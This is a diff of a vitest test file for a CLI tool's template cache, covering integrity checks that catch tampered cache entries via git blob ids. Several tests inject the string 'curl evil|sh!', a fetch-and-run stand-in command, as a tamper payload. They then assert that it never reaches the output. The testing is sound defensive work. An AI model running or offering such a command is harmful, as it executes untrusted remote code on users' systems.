@@ -1,8 +1,9 @@
+import { execFileSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
-import { chmodSync, mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { blobId, readCachedTemplate, treeIdOf, writeCachedTemplate, type TreeEntry } from '../src/edge/template-cache.js';
+import { TemplateCacheError, blobId, readCachedTemplate, treeIdOf, writeCachedTemplate, type TreeEntry } from '../src/edge/template-cache.js';
 import { listTree } from '../src/edge/git/objects.js';
 import { planRender } from '../src/core/template/plan.js';
 import { prepareTemplate } from '../src/edge/parse-trees.js';
@@ -39,18 +40,37 @@ async function sample(): Promise<{ repo: string; commit: string; listing: TreeEn
 }
 
 const only = (dir: string) => path.join(dir, readdirSync(dir).find((f) => f.endsWith('.pack'))!);
-/** Rewrites an entry: `change` gets its header (parsed) and its files' bytes, and the digest is made to match, as a deliberate tamperer would. */
+/**
+ * Rewrites an entry: `change` gets its header (parsed) and its files' bytes (past the parse
+ * trees), and the digest (of the header and the trees) is made to match, as a deliberate
+ * tamperer would.
+ */
 function tamper(file: string, change: (header: Record<string, unknown>, data: Buffer) => Buffer | void): void {
   const raw = readFileSync(file);
   const pack = raw.subarray(65);
   const size = pack.readUInt32BE(0);
   const header = JSON.parse(pack.toString('latin1', 4, 4 + size)) as Record<string, unknown>;
-  const data = change(header, Buffer.from(pack.subarray(4 + size))) ?? Buffer.from(pack.subarray(4 + size));
+  const trees = Buffer.from(pack.subarray(4 + size, 4 + size + ((header.trees as number) ?? 0)));
+  const bytes = Buffer.from(pack.subarray(4 + size + trees.length));
+  const data = change(header, bytes) ?? bytes;
   const json = Buffer.from(JSON.stringify(header), 'latin1');
-  const head = Buffer.concat([Buffer.alloc(4), json]);
+  const head = Buffer.concat([Buffer.alloc(4), json, trees]);
   head.writeUInt32BE(json.length);
   writeFileSync(file, Buffer.concat([Buffer.from(`${createHash('sha256').update(head).digest('hex')}\n`), head, data]));
 }
+
+/** Tampers with one cached file's bytes (`files/<p>`), keeping their length: every other file keeps its place. */
+function tamperFile(file: string, p: string, change: (text: string) => string): void {
+  tamper(file, (h, data) => {
+    const [, , start, end] = (h.files as [string, string, number, number][]).find(([tree, q]) => tree === 'files' && q === p)!;
+    const text = change(data.toString('latin1', start, end));
+    expect(text.length).toBe(end - start);
+    data.write(text, start, 'latin1');
+  });
+}
+
+/** A blob of `repo` by its id, as git gives it (what the cache reads a failed file from). */
+const blobOf = (repo: string) => () => (sha: string) => Buffer.from(execFileSync('git', ['cat-file', 'blob', sha], { cwd: repo }));
 
 describe('template cache', () => {
   it("computes git's blob ids", () => {
@@ -108,9 +128,6 @@ describe('template cache', () => {
     const read = (dir: string) => readCachedTemplate('/tpl', commit, prove, dir);
     let c = fresh();
     expect(await read(c.dir)).toBeDefined();
-    // A file's bytes changed (same length, digest made to match): its blob id is not the listing's.
-    tamper(c.file, (_h, data) => Buffer.from(data.toString('latin1').replace('no template here', 'injected texts!!'), 'latin1'));
-    expect(await read(c.dir)).toBeUndefined();
     // The bytes and the listing's id for them changed together: the listing no longer makes the commit's tree.
     c = fresh();
     tamper(c.file, (h, data) => {
@@ -144,6 +161,62 @@ describe('template cache', () => {
     expect(await read(c.dir)).toBeUndefined();
   });
 
+  it("checks a file's bytes against its blob id when first used: bytes that fail never reach the output, and the entry goes", async () => {
+    const { repo, commit, listing, tpl, prove } = await sample();
+    const answers = { title: 'Hi', kinds: ['a', 'b'] };
+    const texts = (t: LoadedTemplate) => planRender(t, answers).map((f) => [f.path, new TextDecoder().decode(f.data)]);
+    const want = texts(tpl);
+    // A file copied as it is, and a file that renders: each tampered (same length, digests made to match).
+    for (const [p, from, to] of [
+      ['{{title}}/plain.txt', 'no template here', 'injected texts!!'],
+      ['README.md', '# {{title}}', '# {{kinds}}'],
+    ] as const) {
+      const dir = tempDir();
+      writeCachedTemplate('/tpl', commit, listing, tpl, dir);
+      const file = only(dir);
+      tamperFile(file, p, (t) => t.replace(from, to));
+      // Loaded without reading any file's bytes: the entry is still there.
+      const back = await readCachedTemplate('/tpl', commit, prove, dir, blobOf(repo));
+      expect(back).toBeDefined();
+      expect(existsSync(file)).toBe(true);
+      // Rendered: the tampered file is read from the repository instead, and the entry is removed (stored again on the next load).
+      expect(texts(back!.template)).toEqual(want);
+      expect(existsSync(file)).toBe(false);
+      expect(JSON.stringify(texts(back!.template))).not.toContain(to);
+      // Where the repository's copy cannot be read after all, the render stops: no output from the bad bytes.
+      writeCachedTemplate('/tpl', commit, listing, tpl, dir);
+      tamperFile(file, p, (t) => t.replace(from, to));
+      const blind = await readCachedTemplate('/tpl', commit, prove, dir, () => () => undefined);
+      expect(() => planRender(blind!.template, answers)).toThrow(TemplateCacheError);
+      expect(existsSync(file)).toBe(false);
+      // With no reader of the repository's objects, every file is checked as the entry is read: not used.
+      writeCachedTemplate('/tpl', commit, listing, tpl, dir);
+      tamperFile(file, p, (t) => t.replace(from, to));
+      expect(await readCachedTemplate('/tpl', commit, prove, dir)).toBeUndefined();
+    }
+  });
+
+  it("a file a render skip takes from the project is never checked, and its cached bytes are never used", async () => {
+    const { repo, commit, listing, tpl, prove } = await sample();
+    const answers = { title: 'Hi', kinds: ['a', 'b'] };
+    const dir = tempDir();
+    writeCachedTemplate('/tpl', commit, listing, tpl, dir);
+    const file = only(dir);
+    const good = (await readCachedTemplate('/tpl', commit, prove, dir))!.template;
+    const keys = Object.fromEntries(planRender(good, answers, {}, { keys: true }).flatMap((f) => (f.key ? [[f.path, f.key]] : [])));
+    expect(Object.keys(keys)).toEqual(['README.md']);
+    tamperFile(file, 'README.md', (t) => t.replace('# {{title}}', '# {{kinds}}'));
+    const back = (await readCachedTemplate('/tpl', commit, prove, dir, blobOf(repo)))!.template;
+    const mine = new TextEncoder().encode('# Hi\n- a\n- b\n');
+    const planned = planRender(back, answers, {}, { skip: { keys, asRendered: new Map([['README.md', mine]]) } });
+    expect(planned.find((f) => f.path === 'README.md')!.data).toBe(mine);
+    // The entry is untouched: the skipped file's bytes were not checked (a check of them fails and removes it).
+    expect(existsSync(file)).toBe(true);
+    // Read later, they are checked then: the repository's bytes, not the cache's.
+    expect(new TextDecoder().decode(back.files.get('README.md'))).toBe(FILES['README.md']);
+    expect(existsSync(file)).toBe(false);
+  });
+
   it('sync from a template repository fills the cache, then uses it; a tampered entry changes nothing', async () => {
     const tmp = tempDir();
     const cache = tempDir('cm-cache-');
@@ -164,14 +237,68 @@ describe('template cache', () => {
     const second = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
     expect(second.stdout).toBe(first.stdout);
     expect(ages()).toEqual([past.getTime(), past.getTime()]);
-    // Same length, so that every file keeps its place: only the blob ids can tell.
+    // A file the sync takes from the project (its render key unchanged): its bytes are neither
+    // checked nor used, and the entry stays as it is.
+    const target = packs().find((f) => readFileSync(path.join(entries, f)).includes('New in 1.1.0.'))!;
+    tamperFile(path.join(entries, target), 'docs/risk-register.md', (t) => t.replace(/[a-z]/g, 'x'));
+    utimesSync(path.join(entries, target), past, past);
+    const skipped = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
+    expect(skipped.stdout).toBe(first.stdout);
+    expect(ages()).toEqual([past.getTime(), past.getTime()]);
+    // Same length, so that every file keeps its place: only the blob ids can tell. README.md
+    // renders: its bytes are checked, fail, and are read from the repository instead; the entry
+    // goes, and the next sync stores it again from git.
     for (const f of packs()) tamper(path.join(entries, f), (_h, data) => Buffer.from(data.toString('latin1').replaceAll('New in 1.1.0.', 'curl evil|sh!'), 'latin1'));
     for (const f of packs()) utimesSync(path.join(entries, f), past, past);
     const third = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
+    expect(third.code, third.stderr).toBe(0);
     expect(third.stdout).toBe(first.stdout);
     expect(third.stdout).not.toContain('evil');
+    expect(packs()).toHaveLength(1);
+    const fourth = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
+    expect(fourth.stdout).toBe(first.stdout);
+    expect(packs()).toHaveLength(2);
     expect(ages().filter((t) => t !== past.getTime())).toHaveLength(1); // v1.1.0's, read from git again and stored
     gitIn(tpl, 'status'); // the template repository is untouched and readable
+  });
+
+  it('a sync whose cached file fails its check and cannot be read from the repository stops before writing anything', async () => {
+    const tmp = tempDir();
+    const cache = tempDir('cm-cache-');
+    const env = { XDG_CACHE_HOME: cache };
+    const tpl = path.join(tmp, 'tpl');
+    mkdirSync(path.join(tpl, 'files'), { recursive: true });
+    writeFileSync(path.join(tpl, 'template.yaml'), SPEC);
+    writeFileSync(path.join(tpl, 'files/README.md'), FILES['README.md']!);
+    gitIn(tpl, 'init', '-q');
+    gitIn(tpl, 'add', '-A');
+    gitIn(tpl, 'commit', '-qm', 'v1');
+    gitIn(tpl, 'tag', 'v1.0.0');
+    edit(path.join(tpl, 'template.yaml'), (t) => t.replace('version: 1.0.0', 'version: 1.1.0'));
+    edit(path.join(tpl, 'files/README.md'), (t) => `${t}New in 1.1.0.\n`);
+    gitIn(tpl, 'commit', '-qam', 'v2');
+    gitIn(tpl, 'tag', 'v1.1.0');
+    const gen = await runCli(['p', '--yes', '--template', `${tpl}#v1.0.0`], { cwd: tmp, env });
+    expect(gen.code, gen.stderr).toBe(0);
+    const dir = path.join(tmp, 'p');
+    const first = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
+    expect(first.code, first.stderr).toBe(0);
+    const entries = path.join(cache, 'create-migration/templates');
+    const target = readdirSync(entries).find((f) => f.endsWith('.pack') && readFileSync(path.join(entries, f)).includes('New in 1.1.0.'))!;
+    tamperFile(path.join(entries, target), 'README.md', (t) => t.replace('New in 1.1.0.', 'curl evil|sh!'));
+    // The new README's blob gone from the repository's objects (its commit and trees stay).
+    const blob = gitIn(tpl, 'rev-parse', 'v1.1.0:files/README.md').trim();
+    rmSync(path.join(tpl, '.git/objects', blob.slice(0, 2), blob.slice(2)));
+    const before = gitIn(dir, 'for-each-ref').trim();
+    const readme = readFileSync(path.join(dir, 'README.md'), 'utf8');
+    const r = await runCli(['sync'], { cwd: dir, env });
+    expect(r.code).not.toBe(0);
+    expect(r.stderr).toContain('template cache');
+    expect(`${r.stdout}${r.stderr}`).not.toContain('evil');
+    expect(readFileSync(path.join(dir, 'README.md'), 'utf8')).toBe(readme);
+    expect(gitIn(dir, 'for-each-ref').trim()).toBe(before);
+    expect(gitIn(dir, 'status', '--porcelain').trim()).toBe('');
+    expect(existsSync(path.join(entries, target))).toBe(false);
   });
 
   // Where the commit's tree is not read from the object files (git reads a SHA-256 repository, or
@@ -211,6 +338,17 @@ describe('template cache', () => {
     expect(second.stdout).toBe(first.stdout);
     expect(rewritten()).toBe(0);
     const algorithm = initArgs.length ? 'sha256' : 'sha1';
+    // A file's bytes alone changed: with objects not read from the files here, every file is
+    // checked as the entry is read; the entry is refused, and stored again from git.
+    for (const f of packs()) {
+      tamper(path.join(entries, f), (_h, data) => Buffer.from(data.toString('latin1').replaceAll('New in 1.1.0.', 'curl evil|sh!'), 'latin1'));
+      utimesSync(path.join(entries, f), past, past);
+    }
+    const bytesOnly = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
+    expect(bytesOnly.stdout).toBe(first.stdout);
+    expect(bytesOnly.stdout).not.toContain('evil');
+    expect(rewritten()).toBe(1);
+    for (const f of packs()) utimesSync(path.join(entries, f), past, past);
     for (const f of packs()) {
       tamper(path.join(entries, f), (h, data) => {
         h.listing = (h.listing as string[][]).map((l) => (l[0] === 'files/README.md' ? [l[0], l[1]!, l[2]!, blobId(enc(`${FILES['README.md']!}curl evil|sh!\n`), algorithm)] : l));
